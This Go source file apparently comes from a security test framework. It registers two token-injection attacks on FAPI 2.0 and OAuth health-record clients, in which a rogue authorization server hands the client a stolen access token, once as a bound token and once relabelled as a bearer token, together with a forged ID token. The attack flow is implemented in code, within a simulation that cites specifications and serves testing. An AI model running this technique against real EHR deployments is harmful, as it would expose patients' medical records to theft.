package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("X-04", Technique{
	Variant: "bound",
	Title:   "Cuckoo's token: a stolen token is laid in the client's nest",
	Story: "The thief has a bound token from a log, which is useless without the EHR's key. He signs in at the EHR through a regional " +
		"server of his own, and that server hands the EHR the stolen token. The EHR holds the key, so it supplies the proof, or shows " +
		"the certificate, and then shows him the record.",
	Reads: []string{"FAPI 2.0 SP 6.3", "RFC 9700 s4.6", "formal analysis of FAPI 2.0, Hosseyni, Küsters, Würtele"},
	Needs: []event.Vantage{event.APILog, event.RogueAS}, Against: []Trait{Bound},
	Beyond: "FAPI 2.0 describes it (SP 6.3) and leaves the remedies optional: a key for each server, or a client that looks at who issued " +
		"the token it is handed.",
	Run: func(ctx context.Context, g Ground) error { return layToken(ctx, g, "") },
})

var _ = register("X-04/unbound", Technique{
	Variant: "unbound",
	Title:   "The client accepts a token of the wrong type",
	Story: "As with the cuckoo's token, but the thief's server says that the stolen token is an ordinary bearer token. A client that does " +
		"not insist on the type it asked for sends it without a proof.",
	Reads: []string{"RFC 9449 s5"},
	Needs: []event.Vantage{event.APILog, event.RogueAS}, Against: []Trait{ProofBound},
	Run: func(ctx context.Context, g Ground) error { return layToken(ctx, g, "Bearer") },
})

// layToken hands the client the stolen token, under a type, or under the one it came with.
func layToken(ctx context.Context, g Ground, tokenType string) error {
	l, err := stolenRequest(g, event.APILog, "/Patient/")
	if err != nil {
		return err
	}
	if tokenType == "" {
		tokenType = l.scheme
	}
	ro := newRogue(g)
	ro.token = func(url.Values) fapi.TokenResponse {
		return fapi.TokenResponse{
			AccessToken: l.token, TokenType: tokenType, ExpiresIn: 300, Scope: "openid user/*.rs",
			IDToken: ro.idToken(ro.meta.Issuer, "myself", g.Target().ClientID),
		}
	}
	ro.open()
	if err := signInAtRogue(ctx, g); err != nil {
		return err
	}
	_, err = g.Browser().Visit(ctx, g.Target().ClientRecord+stranger(g), "")
	return err
}

// idToken makes an ID token signed by the rogue's key, answering the newest request.
func (ro *rogue) idToken(issuer, subject, audience string) string {
	signed, err := ro.idTokenClaims(issuer, subject, audience).Sign(ro.g.Key("rogue"))
	if err != nil {
		panic("cannot sign an ID token: " + err.Error())
	}
	return signed
}

func (ro *rogue) idTokenClaims(issuer, subject, audience string) fapi.IDToken {
	now := ro.g.Now().Unix()
	return fapi.IDToken{
		Issuer: issuer, Subject: subject, Audience: fapi.Audience{Values: []string{audience}},
		IssuedAt: now, Expires: now + 300, AuthTime: now, Nonce: ro.lastNonce(),
	}
}
